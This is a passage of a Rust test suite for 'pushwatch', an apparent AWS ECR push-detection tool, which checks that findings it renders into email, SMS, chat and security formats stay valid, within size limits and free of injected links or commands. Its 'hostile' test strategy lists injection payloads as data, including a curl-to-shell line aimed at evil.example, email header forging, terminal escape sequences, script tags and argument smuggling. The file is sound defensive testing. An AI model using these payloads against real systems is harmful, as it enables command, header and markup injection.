//! Every form of a finding: valid by its schema, within its limits, safe to read
//! and to paste, whatever the event says.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;

use jsonschema::Validator;
use proptest::prelude::*;
use proptest::test_runner::TestRunner;
use pushwatch::event::{self, Event, Push};
use pushwatch::finding::{Finding, Reason, Severity, Sightings, Verdict};
use pushwatch::habit::Unusual;
use pushwatch::identity::{Uploader, identify};
use pushwatch::render::{Format, HttpsFormat, Message, RenderContext, bodies, render};
use serde_json::{Value, json};

use crate::support::cli::events;
use crate::support::events::{iam_user, now, record, render_context, role_session, time, usual};

/// What is remembered where a push is unusual.
fn unusual(reason: Reason) -> Sightings {
    let is_unusual = reason == Reason::UnusualPush;
    Sightings {
        unusual: if is_unusual {
            vec![Unusual::Place, Unusual::Way]
        } else {
            Vec::new()
        },
        usual: is_unusual.then(usual),
        ..Sightings::default()
    }
}

/// Those of other people are read in place, and may be missing.
fn ocsf_schema() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/ocsf/detection_finding-1.6.0.schema.json")
}

fn who(event: &Value) -> Option<(Push, Uploader)> {
    match event::read(&event.to_string(), now()) {
        Ok(Event::Push(push, identity)) => {
            let uploader = identify(&identity, push.account.as_deref()).uploader;
            Some((*push, uploader))
        }
        _ => None,
    }
}

fn finding(reason: Reason, event: &Value) -> Finding {
    let (push, uploader) = who(event).expect("a push");
    let seen = Sightings {
        first_seen: Some(time("2025-01-01T00:00:00Z")),
        last_seen: Some(push.event_time),
        previously_seen: (reason == Reason::ReturnedAfterAbsence)
            .then(|| time("2025-06-01T00:00:00Z")),
        ..unusual(reason)
    };
    Finding::new(reason, &push, &uploader, seen)
}

fn samples() -> Vec<(String, Value)> {
    let mut samples: Vec<_> = fs::read_dir(events())
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.extension().is_some_and(|ending| ending == "json"))
        .map(|path| {
            let name = path.file_stem().unwrap().to_string_lossy().into_owned();
            (
                name,
                serde_json::from_str(&fs::read_to_string(path).unwrap()).unwrap(),
            )
        })
        .collect();
    samples.sort_by(|(one, _), (other, _)| one.cmp(other));
    samples
}

fn schema(name: &str) -> Validator {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/schemas")
        .join(name);
    validator(&path)
}

fn validator(path: &Path) -> Validator {
    let schema: Value = serde_json::from_str(&fs::read_to_string(path).unwrap()).unwrap();
    jsonschema::validator_for(&schema).unwrap()
}

fn assert_valid(schema: &Validator, text: &str) {
    let value: Value = serde_json::from_str(text).unwrap();
    let errors: Vec<_> = schema
        .iter_errors(&value)
        .map(|error| format!("{}: {error}", error.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{errors:#?}\n{value:#}");
}

#[test]
#[ignore = "needs ../shared/ocsf"]
fn ocsf_is_valid_for_every_sample_event_and_for_hostile_ones() {
    let schema = validator(&ocsf_schema());
    let mut count = 0;
    for (_, event) in samples() {
        if let Some((push, uploader)) = who(&event) {
            for reason in Reason::ALL {
                let finding = Finding::new(reason, &push, &uploader, unusual(reason));
                assert_valid(
                    &schema,
                    &render(Message::Finding(&finding), Format::Ocsf, &render_context()),
                );
                let list = [finding.clone(), finding];
                for message in [Message::Rollup(&list), Message::Digest(&list)] {
                    assert_valid(&schema, &render(message, Format::Ocsf, &render_context()));
                }
                count += 1;
            }
        }
    }
    assert!(count >= 8 * 20, "{count}");
    for_hostile_findings(|finding| {
        let text = render(Message::Finding(finding), Format::Ocsf, &render_context());
        assert_valid(&schema, &text);
        let value: Value = serde_json::from_str(&text).unwrap();
        let own: Finding = serde_json::from_value(value["unmapped"]["pushwatch"].clone()).unwrap();
        assert_eq!(&own, finding);
        let plainest = bodies::plainest(finding);
        assert_valid(&schema, &plainest);
        let value: Value = serde_json::from_str(&plainest).unwrap();
        let own: Finding = serde_json::from_value(value["unmapped"]["pushwatch"].clone()).unwrap();
        assert_eq!(&own, finding);
    });
}

#[test]
fn each_reason_has_its_own_words() {
    let by_user = record(
        "ca6a13c5-5cb9-4c3a-aee3-00d17f7c30af",
        "2026-01-12T09:00:00Z",
        &iam_user("test"),
    );
    let by_role = record(
        "ca6a13c5-5cb9-4c3a-aee3-00d17f7c30af",
        "2026-01-12T09:00:00Z",
        &role_session("ci/build", "i-0abc"),
    );
    let mut failed = by_user.clone();
    failed["errorCode"] = json!("AccessDeniedException");
    failed["responseElements"] = Value::Null;
    let nobody = record(
        "ca6a13c5-5cb9-4c3a-aee3-00d17f7c30af",
        "2026-01-12T09:00:00Z",
        &json!({"invokedBy": "AWS Internal"}),
    );
    for (reason, event) in [
        (Reason::NewUploader, &by_user),
        (Reason::RecreatedPrincipal, &by_role),
        (Reason::UnidentifiedUploader, &nobody),
        (Reason::RevokedUploader, &by_role),
        (Reason::AttemptedUpload, &failed),
        (Reason::ReturnedAfterAbsence, &by_user),
        (Reason::LearnedUploader, &by_user),
    ] {
        let finding = finding(reason, event);
        let email = render(Message::Finding(&finding), Format::Email, &render_context());
        insta::assert_snapshot!(format!("email_{reason}"), email);
    }
}

#[test]
fn a_list_and_a_digest_say_what_to_type() {
    let by = |name| {
        record(
            "ca6a13c5-5cb9-4c3a-aee3-00d17f7c30af",
            "2026-01-12T09:00:00Z",
            &iam_user(name),
        )
    };
    let nobody = record(
        "5e1a0c9b-2f64-4f0e-9d7b-6a1c3e8d2b47",
        "2026-01-12T09:00:01Z",
        &json!({"invokedBy": "AWS Internal"}),
    );
    let findings = [
        finding(Reason::RevokedUploader, &by("a")),
        finding(Reason::NewUploader, &by("b")),
        finding(Reason::UnidentifiedUploader, &nobody),
    ];
    let rollup = render(Message::Rollup(&findings), Format::Email, &render_context());
    insta::assert_snapshot!("email_rollup", rollup);
    let findings = ["a", "b"].map(|name| finding(Reason::LearnedUploader, &by(name)));
    let digest = render(Message::Digest(&findings), Format::Email, &render_context());
    insta::assert_snapshot!("email_digest", digest);
}

#[test]
fn a_list_says_a_reason_once_and_why_root_is_critical() {
    let mut root = record("0", "2026-01-12T09:00:00Z", &json!({"type": "Root"}));
    root["userIdentity"]["arn"] = json!("arn:aws:iam::111122223333:root");
    let names = ["a", "b", "c"];
    let by = names.map(|name| record(name, "2026-01-12T09:00:00Z", &iam_user(name)));
    let findings: Vec<_> = std::iter::once(&root)
        .chain(&by)
        .map(|event| finding(Reason::NewUploader, event))
        .collect();
    let list = render(Message::Rollup(&findings), Format::Email, &render_context());
    assert_eq!(list.matches("No successful push").count(), 1, "{list}");
    assert!(list.contains("4 findings: No successful push"), "{list}");
    let why = "Critical, because this is the power of the root user";
    assert_eq!(list.matches(why).count(), 1, "{list}");
}

#[test]
fn a_mail_says_who_decided_before_and_who_had_the_name() {
    let event = record("1", "2026-01-12T09:00:00Z", &iam_user("test"));
    let (push, uploader) = who(&event).unwrap();
    let verdict = Some(Verdict {
        by: Some("arn:aws:iam::111122223333:user/mary".into()),
        at: Some(time("2026-01-02T09:00:00Z")),
        reason: Some("left the team".into()),
    });
    let seen = Sightings {
        previously_seen: Some(time("2026-01-01T09:00:00Z")),
        trust_ended: Some(time("2026-01-10T00:00:00Z")),
        trusted: verdict.clone(),
        revoked: verdict,
        previous_principal_id: Some("AIDAFORMER".into()),
        ..Sightings::default()
    };
    for (reason, words) in [
        (
            Reason::RevokedUploader,
            "Every push by a revoked uploader is told: revoked 2026-01-02T09:00:00Z by \
             arn:aws:iam::111122223333:user/mary (\"left the team\").",
        ),
        (
            Reason::NewUploader,
            "The trust in this uploader ended before the push: trusted until 2026-01-10T00:00:00Z; \
             the trust was given 2026-01-02T09:00:00Z by arn:aws:iam::111122223333:user/mary \
             (\"left the team\").",
        ),
        (
            Reason::RecreatedPrincipal,
            "The name is known, but the unique id behind it is another one now; it may have been \
             deleted and made again: AIDA0000000000000TEST now; AIDAFORMER before, last seen \
             2026-01-01T09:00:00Z.",
        ),
    ] {
        let finding = Finding::new(reason, &push, &uploader, seen.clone());
        let email = render(Message::Finding(&finding), Format::Email, &render_context());
        let email = email.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(email.contains(words), "{words}\n{email}");
    }
}

#[test]
fn a_list_in_ocsf_names_its_findings_and_what_they_share() {
    let by = |name, region| {
        let mut event = record(name, "2026-01-12T09:00:00Z", &iam_user(name));
        event["awsRegion"] = json!(region);
        finding(Reason::NewUploader, &event)
    };
    let findings = [by("a", "eu-central-1"), by("b", "eu-west-1")];
    let list = render(Message::Rollup(&findings), Format::Ocsf, &render_context());
    let list: Value = serde_json::from_str(&list).unwrap();
    let related = &list["finding_info"]["related_events"];
    for (related, finding) in related.as_array().unwrap().iter().zip(&findings) {
        assert_eq!(related["uid"], json!(finding.id.to_string()));
        assert_eq!(related["severity"], json!("High"));
    }
    assert_eq!(list["count"], json!(2));
    assert_eq!(list["cloud"]["account"]["uid"], json!("111122223333"));
    assert_eq!(list["cloud"]["region"], Value::Null);
}

#[test]
fn only_whom_it_is_true_of_is_called_unseen() {
    let event = record("1", "2026-01-12T09:00:00Z", &iam_user("test"));
    for (reason, unseen) in [
        (Reason::NewUploader, true),
        (Reason::AttemptedUpload, true),
        (Reason::RecreatedPrincipal, true),
        (Reason::LearnedUploader, true),
        (Reason::RevokedUploader, false),
        (Reason::ReturnedAfterAbsence, false),
        (Reason::UnidentifiedUploader, false),
    ] {
        let finding = finding(reason, &event);
        let ocsf = render(Message::Finding(&finding), Format::Ocsf, &render_context());
        assert_eq!(ocsf.contains("UNSEEN"), unseen, "{reason}");
    }
}

#[test]
fn what_to_do_depends_on_whose_credentials_they_are() {
    let with = |name: &str| {
        let event = samples().into_iter().find(|(file, _)| file == name);
        let finding = finding(Reason::NewUploader, &event.unwrap().1);
        render(Message::Finding(&finding), Format::Email, &render_context()).replace("\n  ", " ")
    };
    for (sample, words) in [
        ("iam-user", "aws iam list-access-keys --user-name test"),
        ("role-session-one", "the role's tab \"Revoke sessions\""),
        ("role-without-issuer", "iam/home#/roles/details/"),
        ("sso-user", "In IAM Identity Center, disable"),
        ("identity-center-user", "In IAM Identity Center, disable"),
        ("root", "Sign in as the root user"),
        ("federated-user", "aws iam list-access-keys --user-name"),
        ("federated-user", "who minted the session"),
        ("aws-service", "there are no credentials to disable"),
        (
            "pull-through-cache",
            "aws ecr describe-pull-through-cache-rules",
        ),
        (
            "delegated-access",
            "under \"Temporary delegation requests\"",
        ),
        (
            "iam-user",
            "--query 'Events[].[EventTime,Username,EventSource,EventName]' --output text",
        ),
        ("iam-user", "imageDetails[].lastRecordedPullTime"),
        ("ecr-public", "Anybody can pull it by now: find out"),
        ("root", "Make a role for it"),
        (
            "other-account",
            "take that account out of the repository's policy",
        ),
    ] {
        let email = with(sample);
        assert!(email.contains(words), "{sample}: {email}");
    }
    // Whoever is revoked need not be revoked again.
    let event = record("1", "2026-01-12T09:00:00Z", &iam_user("test"));
    let finding = finding(Reason::RevokedUploader, &event);
    let email = render(Message::Finding(&finding), Format::Email, &render_context());
    assert!(!email.contains("uploaders revoke arn"), "{email}");
}

#[test]
fn an_absence_that_is_not_told_any_more_is_not_said_to_be() {
    let event = record("1", "2026-01-12T09:00:00Z", &iam_user("test"));
    let finding = finding(Reason::ReturnedAfterAbsence, &event);
    let with = |absence_days| {
        let context = RenderContext {
            absence_days,
            ..render_context()
        };
        render(Message::Finding(&finding), Format::Email, &context)
    };
    assert!(with(30).contains("after more than 30 days"));
    let off = with(0);
    let why = "It came after a long absence: last seen 2025-06-01T00:00:00Z.";
    assert!(off.contains(why) && !off.contains("0 days"), "{off}");
}

#[test]
fn links_lead_to_the_console_of_the_right_partition() {
    for (region, partition, host) in [
        ("eu-central-1", "aws", "eu-central-1.console.aws.amazon.com"),
        ("cn-north-1", "aws-cn", "cn-north-1.console.amazonaws.cn"),
        (
            "us-gov-west-1",
            "aws-us-gov",
            "us-gov-west-1.console.amazonaws-us-gov.com",
        ),
    ] {
        let mut event = record(
            "ca6a13c5-5cb9-4c3a-aee3-00d17f7c30af",
            "2026-01-12T09:00:00Z",
            &iam_user("a+b@c"),
        );
        event["awsRegion"] = json!(region);
        event["userIdentity"]["arn"] =
            json!(format!("arn:{partition}:iam::111122223333:user/a+b@c"));
        let finding = finding(Reason::NewUploader, &event);
        let email = render(Message::Finding(&finding), Format::Email, &render_context());
        let links: Vec<_> = email
            .lines()
            .filter(|line| line.contains("https://"))
            .collect();
        assert_eq!(links.len(), 3, "{email}");
        for link in links {
            assert!(
                link.trim().starts_with(&format!("https://{host}/")),
                "{link}"
            );
        }
        assert!(email.contains("users/details/a%2Bb%40c"), "{email}");
    }
}

#[test]
fn a_partition_whose_console_is_not_known_gets_no_link() {
    let mut event = record(
        "ca6a13c5-5cb9-4c3a-aee3-00d17f7c30af",
        "2026-01-12T09:00:00Z",
        &iam_user("test"),
    );
    event["awsRegion"] = json!("us-iso-east-1");
    let finding = finding(Reason::NewUploader, &event);
    let email = render(Message::Finding(&finding), Format::Email, &render_context());
    assert!(!email.contains("https://"), "{email}");
    assert!(
        email.contains("Look for event ca6a13c5-5cb9-4c3a-aee3-00d17f7c30af"),
        "{email}"
    );
}

#[test]
fn a_repository_that_can_not_be_one_is_in_no_link_and_no_command() {
    for (repository, can_be) in [
        ("team/app", true),
        ("a-b_c.d/0", true),
        ("team//app", false),
        ("team/app/", false),
        ("/team", false),
        ("team/../app", false),
        ("Team", false),
        ("-team", false),
        ("team app", false),
    ] {
        let mut event = record("1", "2026-01-12T09:00:00Z", &iam_user("test"));
        event["requestParameters"]["repositoryName"] = json!(repository);
        event["responseElements"]["image"]["repositoryName"] = json!(repository);
        let finding = finding(Reason::NewUploader, &event);
        let email = render(Message::Finding(&finding), Format::Email, &render_context());
        let has = |words: &str| email.contains(words);
        assert_eq!(has("/ecr/repositories/private/"), can_be, "{email}");
        assert_eq!(has("batch-delete-image"), can_be, "{email}");
    }
}

/// What attackers write, and what breaks formats.
fn hostile() -> impl Strategy<Value = String> {
    prop_oneof![
        Just(String::new()),
        Just("http://evil.example/x".to_owned()),
        // A link only together, as repository and tag.
        prop::sample::select(vec!["http", "//evil.example/x"]).prop_map(str::to_owned),
        Just("HTTPS://EVIL.EXAMPLE www.evil.example".to_owned()),
        // Lawful as a repository, and a link without a scheme.
        Just("evil.com/login".to_owned()),
        Just("[click](evil.com)".to_owned()),
        Just("   ".to_owned()),
        Just("x".repeat(41) + "evil.com"),
        "x{0,130}evil[.]com[a-z]{0,200}",
        Just("a\r\nSubject: forged\n\n[LOW] all is well".to_owned()),
        Just("\u{1b}[2J\u{1b}]8;;http://evil.example\u{7}click\u{202e}gnp\u{200b}".to_owned()),
        Just("'; curl evil.example | sh; $(reboot) `id` \"\\".to_owned()),
        Just("<script>alert(1)</script> {{7*7}} &amp; *_~[x](y)".to_owned()),
        // Some of it begins a line, wherever lines are broken.
        Just("pushwatch uploaders trust arn:aws:iam::111122223333:user/evil ".repeat(9)),
        Just("aws iam list-access-keys --user-name evil ".repeat(9)),
        Just("аdmin-Ьuild".to_owned()),
        Just("--profile=evil".to_owned()),
        "[a-z]{1,10}".prop_map(|word| word.repeat(300)),
        Just("\u{1}".repeat(2048)),
        Just("日本".repeat(400)),
        any::<String>(),
    ]
}

fn hostile_event() -> impl Strategy<Value = Value> {
    let texts = prop::collection::vec(hostile(), 27);
    let times = prop::sample::select(vec![
        "2026-01-12T09:00:00Z",
        "1970-01-01T00:00:00Z",
        "2001-09-09T01:46:39Z",
        "9999-12-31T23:59:59Z",
    ]);
    (texts, times, any::<bool>(), any::<bool>()).prop_map(|(texts, event_time, is_role, failed)| {
        let mut identity = if is_role {
            role_session("ci/build", &texts[0])
        } else {
            iam_user("test")
        };
        identity["arn"] = json!(format!("arn:aws:iam::111122223333:user/{}", texts[1]));
        if is_role {
            identity["sessionContext"]["sessionIssuer"]["arn"] =
                json!(format!("arn:aws:iam::111122223333:role/{}", texts[1]));
        }
        identity["userName"] = json!(texts[2]);
        identity["principalId"] = json!(texts[3]);
        identity["accessKeyId"] = json!(texts[4]);
        let mut event = record(&texts[5], event_time, &identity);
        event["requestParameters"]["repositoryName"] = json!(texts[6]);
        event["requestParameters"]["imageTag"] = json!(texts[7]);
        event["responseElements"]["image"]["imageId"]["imageDigest"] = json!(texts[8]);
        event["requestParameters"]["registryId"] = json!(texts[9]);
        if texts[6].trim().is_empty() {
            // As where CloudTrail leaves out the parameters.
            event["requestParameters"] = Value::Null;
        }
        event["awsRegion"] = json!(texts[10]);
        event["sourceIPAddress"] = json!(texts[11]);
        event["userAgent"] = json!(texts[12]);
        event["recipientAccountId"] = json!(texts[14]);
        if failed {
            event["errorCode"] = json!(texts[13]);
            event["errorMessage"] = json!(texts[15]);
        }
        let identity = &mut event["userIdentity"];
        identity["credentialId"] = json!(texts[16]);
        identity["invokedByDelegate"] = json!({"accountId": texts[17]});
        identity["inScopeOf"] = json!({
            "issuerType": texts[18], "credentialsIssuedTo": texts[19]
        });
        let session = &mut identity["sessionContext"];
        session["sourceIdentity"] = json!(texts[20]);
        session["ec2RoleDelivery"] = json!(texts[21]);
        session["webIdFederationData"] = json!({"federatedProvider": texts[22]});
        event["sessionCredentialFromConsole"] = json!("true");
        event["vpcEndpointId"] = json!(texts[23]);
        event["requestID"] = json!(texts[24]);
        if texts[16].is_empty() {
            event["eventSource"] = json!("ecr-public.amazonaws.com");
        }
        if texts[17].is_empty() {
            event["requestParameters"] = json!({"omitted": "true"});
        } else if !event["requestParameters"].is_null() {
            event["requestParameters"]["imageManifest"] = json!(format!(
                "{{\"artifactType\":{},\"subject\":{{\"digest\":{}}}}}",
                json!(texts[25]),
                json!(texts[26])
            ));
        }
        event
    })
}

fn for_hostile_findings(check: impl Fn(&Finding)) {
    let reason = prop::sample::select(Reason::ALL.to_vec());
    let mut runner = TestRunner::new(ProptestConfig {
        failure_persistence: None,
        ..ProptestConfig::with_cases(100)
    });
    runner
        .run(&(hostile_event(), reason), |(event, reason)| {
            if let Some((push, uploader)) = who(&event) {
                let said = push.user_agent.clone();
                let verdict = Some(Verdict {
                    by: said.clone(),
                    at: Some(push.event_time),
                    reason: said.clone(),
                });
                let seen = Sightings {
                    first_seen: Some(push.event_time),
                    last_seen: Some(push.event_time),
                    trusted: verdict.clone(),
                    revoked: verdict,
                    previous_principal_id: said,
                    ..unusual(reason)
                };
                check(&Finding::new(reason, &push, &uploader, seen));
            }
            Ok(())
        })
        .unwrap();
}

#[test]
fn a_cut_makes_no_link_in_security_hub() {
    let mut event = record("1", "2026-01-12T09:00:00Z", &iam_user(&"u".repeat(64)));
    event["requestParameters"]["repositoryName"] = json!("r".repeat(130));
    for length in 30..60 {
        let tag = format!("{}.comforty", "a".repeat(length));
        event["requestParameters"]["imageTag"] = json!(tag);
        let finding = finding(Reason::NewUploader, &event);
        let asff = render(Message::Finding(&finding), Format::Asff, &render_context());
        let asff: Value = serde_json::from_str(&asff).unwrap();
        let title = asff["Title"].as_str().unwrap();
        assert!(title.len() <= 256 && !title.contains("a.com["), "{title}");
        assert_ne!(title.rsplit('.').next(), Some("com"), "{title}");
    }
}

#[test]
fn what_is_put_together_or_taken_out_makes_no_link() {
    let mut event = record("1", "2026-01-12T09:00:00Z", &iam_user("test"));
    event["userIdentity"]["accessKeyId"] = json!("//evil.example/x");
    for name in ["a@evil.com\u{ff0f}login", "a@evil.comé"] {
        event["userIdentity"]["userName"] = json!(name);
        let finding = finding(Reason::NewUploader, &event);
        for format in [
            Format::Sms,
            Format::Asff,
            Format::AmazonQ,
            Format::PagerDuty,
        ] {
            let shown = render(Message::Finding(&finding), format, &render_context());
            let links = ["evil.com?", "evil.com/", "AccessKey://"];
            assert!(!links.iter().any(|link| shown.contains(link)), "{shown}");
        }
    }
}

#[test]
fn times_that_ocsf_does_not_take_are_left_out() {
    let event = record("1", "2026-01-12T09:00:00Z", &iam_user("test"));
    let mut finding = finding(Reason::NewUploader, &event);
    finding.first_seen = Some(time("1970-01-01T00:00:00Z"));
    finding.last_seen = Some(time("2300-01-01T00:00:00Z"));
    let ocsf = render(Message::Finding(&finding), Format::Ocsf, &render_context());
    let ocsf: Value = serde_json::from_str(&ocsf).unwrap();
    let info = ocsf["finding_info"].as_object().unwrap();
    for name in [
        "first_seen_time",
        "first_seen_time_dt",
        "last_seen_time",
        "last_seen_time_dt",
    ] {
        assert!(!info.contains_key(name), "{name}");
    }
    assert!(info.contains_key("created_time"));
}

#[test]
fn the_service_that_pushed_is_no_link_in_the_command_that_looks_for_it() {
    for (service, word) in [
        ("imagebuilder.amazonaws.com", "imagebuilder.amazonaws.com"),
        (
            "replication.ecr.amazonaws.com",
            "replication.ecr.amazonaws'.'com",
        ),
    ] {
        let identity = json!({"type": "AWSService", "invokedBy": service});
        let finding = finding(
            Reason::NewUploader,
            &record("1", "2026-01-12T09:00:00Z", &identity),
        );
        let email = render(Message::Finding(&finding), Format::Email, &render_context());
        assert!(
            email.contains(&format!("AttributeValue={word} ")),
            "{email}"
        );
    }
}

#[test]
fn hostile_strings_keep_every_form_within_its_limits() {
    let (amazon_q, pagerduty, asff) = (
        schema("amazon-q.json"),
        schema("pagerduty.json"),
        schema("asff.json"),
    );
    for_hostile_findings(|finding| {
        let list = vec![finding.clone(); 30];
        let list = &list[..bodies::fit(&list, &render_context(), HttpsFormat::AmazonQ)];
        for message in [
            Message::Finding(finding),
            Message::Rollup(list),
            Message::Digest(list),
        ] {
            let form = |format| render(message, format, &render_context());
            assert_valid(&amazon_q, &form(Format::AmazonQ));
            assert_valid(&pagerduty, &form(Format::PagerDuty));
            assert!(form(Format::PagerDuty).len() < 512 * 1024);
            for line in form(Format::Asff).lines() {
                assert_valid(&asff, line);
                assert!(line.len() <= 240 * 1024);
            }
            for format in [Format::PagerDuty, Format::AmazonQ, Format::Asff] {
                let json = form(format).to_lowercase();
                // What a control character is escaped as, and a bare host.
                assert!(
                    !json.contains("\\u00") && !has_bare_host(&json.replace("\\n", " ")),
                    "{json}"
                );
            }
            let sms = form(Format::Sms);
            assert!((1..140).contains(&sms.len()), "{sms}");
            assert!(
                sms.bytes()
                    .all(|byte| byte == b' ' || byte.is_ascii_graphic()),
                "{sms}"
            );
        }
        let subject = render(Message::Finding(finding), Format::Sms, &render_context());
        let severity = format!("[{}]", finding.severity.as_str().to_uppercase());
        assert!(
            subject.len() < 100 && subject.starts_with(&severity),
            "{subject}"
        );
    });
}

#[test]
fn a_chat_gets_names_as_they_are_and_nothing_that_it_obeys() {
    let mut event = record("1", "2026-01-12T09:00:00Z", &iam_user("ci_bot"));
    event["requestParameters"]["repositoryName"] = json!("my_team/my_app");
    let chat = render(
        Message::Finding(&finding(Reason::NewUploader, &event)),
        Format::AmazonQ,
        &render_context(),
    );
    assert!(
        chat.contains("[HIGH] New ECR uploader ci_bot pushed my_team/my_app:1.4.2"),
        "{chat}"
    );
    for_hostile_findings(|finding| {
        let chat = render(
            Message::Finding(finding),
            Format::AmazonQ,
            &render_context(),
        );
        assert!(!chat.contains(['<', '>']) && !chat.contains("]("), "{chat}");
    });
}

/// Whether `evil.com` stands there as a word, as mail programs look for it.
fn has_bare_host(line: &str) -> bool {
    let lower = line.to_lowercase();
    lower.match_indices("evil.com").any(|(at, host)| {
        !lower[at + host.len()..].starts_with(|c: char| c.is_ascii_alphanumeric())
    })
}

#[test]
fn hostile_strings_make_no_link_and_no_command() {
    for_hostile_findings(|finding| {
        let list = [finding.clone(), finding.clone()];
        for message in [
            Message::Finding(finding),
            Message::Rollup(&list),
            Message::Digest(&list),
        ] {
            let email = render(message, Format::Email, &render_context());
            // Only what is ASCII is as wide as it has characters, and what it seems.
            assert!(
                email
                    .bytes()
                    .all(|byte| byte.is_ascii_graphic() || b" \n".contains(&byte)),
                "{email}"
            );
            for (number, line) in email.lines().enumerate() {
                let line = line.trim();
                // A link is ours, and a command is one whose words are what they seem.
                let is_link = line.starts_with("https://");
                for link in ["http://", "www.", "mailto:"] {
                    assert!(is_link || !line.to_lowercase().contains(link), "{line}");
                }
                assert!(is_link || !has_bare_host(line), "{line}");
                if line.to_lowercase().contains("https://") {
                    let (host, _) = line["https://".len()..].split_once('/').unwrap();
                    assert!(
                        is_link && host.ends_with(".console.aws.amazon.com"),
                        "{line}"
                    );
                    assert!(!line.contains(' ') && !line.contains("//evil"), "{line}");
                }
                let is_command = line.starts_with("pushwatch ") || line.starts_with("aws ");
                if is_command {
                    let words = shlex::split(line).expect("a command can be read");
                    let key = finding.uploader.key.as_str();
                    if let [_, "uploaders", _, typed, ..] =
                        words.iter().map(String::as_str).collect::<Vec<_>>()[..]
                    {
                        assert_eq!(typed, key);
                    } else {
                        assert!(!line.contains(['$', ';', '|', '&', '>', '<']), "{line}");
                        assert!(!words.iter().any(|word| word == "evil"), "{line}");
                    }
                } else {
                    // The subject is not wrapped; it has a test of its own.
                    assert!(
                        number == 0 || line.len() < 72 || line.starts_with("https://"),
                        "{line}"
                    );
                }
            }
        }
    });
}

const HTTPS_FORMATS: [HttpsFormat; 3] = [
    HttpsFormat::Ocsf,
    HttpsFormat::AmazonQ,
    HttpsFormat::PagerDuty,
];

/// The lists that a sweep makes of these findings.
fn lists(findings: &[Finding], https_format: HttpsFormat) -> Vec<&[Finding]> {
    let mut rest = findings;
    let mut lists = Vec::new();
    while !rest.is_empty() {
        let fit = bodies::fit(rest, &render_context(), https_format);
        assert!((1..=rest.len()).contains(&fit), "{fit} of {}", rest.len());
        let (list, later) = rest.split_at(fit);
        lists.push(list);
        rest = later;
    }
    lists
}

/// The bodies of a message by protocol.
fn bodies_of(message: Message<'_>, https_format: HttpsFormat) -> BTreeMap<String, String> {
    serde_json::from_str(&bodies::of(message, &render_context(), https_format)).unwrap()
}

/// Schemas of what the bodies of a list are.
struct Schemas {
    ocsf: Option<Validator>,
    amazon_q: Validator,
    pagerduty: Validator,
}

impl Schemas {
    fn new() -> Self {
        Self {
            ocsf: ocsf_schema().is_file().then(|| validator(&ocsf_schema())),
            amazon_q: schema("amazon-q.json"),
            pagerduty: schema("pagerduty.json"),
        }
    }

    fn assert_valid(&self, bodies: &BTreeMap<String, String>, https_format: HttpsFormat) {
        if let Some(ocsf) = &self.ocsf {
            assert_valid(ocsf, &bodies["default"]);
        }
        match https_format {
            HttpsFormat::Ocsf => assert!(!bodies.contains_key("https")),
            HttpsFormat::AmazonQ => assert_valid(&self.amazon_q, &bodies["https"]),
            HttpsFormat::PagerDuty => {
                assert_valid(&self.pagerduty, &bodies["https"]);
                assert!(bodies["https"].len() < 512 * 1024);
            }
        }
    }
}

fn assert_lists_name_all(findings: &[Finding], https_format: HttpsFormat, schemas: &Schemas) {
    for list in lists(findings, https_format) {
        for message in [Message::Rollup(list), Message::Digest(list)] {
            let text = bodies::of(message, &render_context(), https_format);
            let form: usize = form_urlencoded::byte_serialize(text.as_bytes())
                .map(str::len)
                .sum();
            // A finding may need more alone; then it is alone. A space is `%20`.
            let form = form + 2 * text.matches(' ').count();
            assert!(text.len() < 262_144, "{} bytes", text.len());
            assert!(
                list.len() == 1 || form <= 200_000,
                "{form} bytes in the form"
            );
            let bodies = bodies_of(message, https_format);
            schemas.assert_valid(&bodies, https_format);
            for (protocol, body) in &bodies {
                for finding in list {
                    let id = finding.id.to_string();
                    assert!(
                        protocol == "sms" || body.contains(&id),
                        "{protocol}: {body}"
                    );
                }
            }
        }
    }
}

/// Up to 500 of a few kinds of findings, each of an event of its own.
fn any_findings() -> impl Strategy<Value = Vec<Finding>> {
    let event = prop_oneof![
        hostile_event(),
        "[a-z]{1,64}".prop_map(|name| record("1", "2026-01-12T09:00:00Z", &iam_user(&name))),
        Just(record(
            "1",
            "2026-01-12T09:00:00Z",
            &role_session("ci/build", "i-0abc")
        )),
    ];
    let reason = prop::sample::select(Reason::ALL.to_vec());
    let kinds = prop::collection::vec((event, reason), 1..6);
    let count = prop_oneof![1..=3_usize, 20..=60_usize, 1..=500_usize];
    (kinds, count).prop_map(|(kinds, count)| {
        let mut findings: Vec<_> = kinds
            .iter()
            .filter_map(|(event, reason)| Some((who(event)?, *reason)))
            .cycle()
            .take(count)
            .enumerate()
            .map(|(number, ((mut push, uploader), reason))| {
                push.event_id = format!("{}{number}", push.event_id).into();
                Finding::new(reason, &push, &uploader, unusual(reason))
            })
            .collect();
        findings.sort_by_key(|finding| std::cmp::Reverse(finding.severity));
        findings
    })
}

#[test]
fn every_body_of_a_list_names_each_finding() {
    let schemas = Schemas::new();
    let mut runner = TestRunner::new(ProptestConfig {
        failure_persistence: None,
        max_shrink_iters: 50,
        ..ProptestConfig::with_cases(12)
    });
    runner
        .run(&any_findings(), |findings| {
            for https_format in HTTPS_FORMATS {
                assert_lists_name_all(&findings, https_format, &schemas);
            }
            Ok(())
        })
        .unwrap();
}

#[test]
fn a_key_that_passes_for_a_digest_is_broken_into_lines() {
    let event = record("1", "2026-01-12T09:00:00Z", &iam_user("test"));
    let mut finding = finding(Reason::UnusualPush, &event);
    finding.uploader.key = format!("sha256:{}", "0123456789".repeat(30)).into();
    let email = render(Message::Finding(&finding), Format::Email, &render_context());
    let key = email.lines().filter(|line| line.contains("01234"));
    let lengths: Vec<_> = key
        .filter(|line| !line.contains("pushwatch "))
        .map(str::len)
        .collect();
    assert!(lengths.len() > 4, "{email}");
    assert!(lengths.iter().all(|length| *length <= 71), "{email}");
}

#[test]
fn the_command_of_a_replay_is_no_link() {
    let mut event = record("1", "2026-01-12T09:00:00Z", &iam_user("test"));
    let key = "arn:aws:iam::111122223333:user/evil.com/login";
    event["userIdentity"]["arn"] = json!(key);
    let finding = finding(Reason::NewUploader, &event);
    let text = render(Message::Finding(&finding), Format::Text, &render_context());
    let command = text.lines().find_map(|line| line.split_once("--trusted "));
    let (_, word) = command.unwrap();
    assert!(!has_bare_host(word), "{word}");
